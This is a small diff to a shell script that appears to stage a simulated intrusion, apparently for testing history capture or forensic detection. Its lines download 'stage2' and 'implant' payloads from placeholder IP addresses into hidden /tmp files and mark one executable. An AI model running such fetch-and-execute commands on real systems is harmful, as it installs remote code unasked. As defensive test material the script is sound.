@@ -142,10 +142,11 @@ curl -s http://198.51.100.9/stage2 -o /tmp/.x
 chmod +x /tmp/.x
 LOG
 cat > /tmp/typed <<'TYPED'
+HISTTIMEFORMAT='%s '
 set -o history
 cd /tmp
 curl -s http://203.0.113.66/implant -o /tmp/.y
-HISTTIMEFORMAT='%s ' history > /tmp/history
+history > /tmp/history
 /bin/busybox sleep 1000000
 TYPED
 /bin/bash --norc < /tmp/typed &
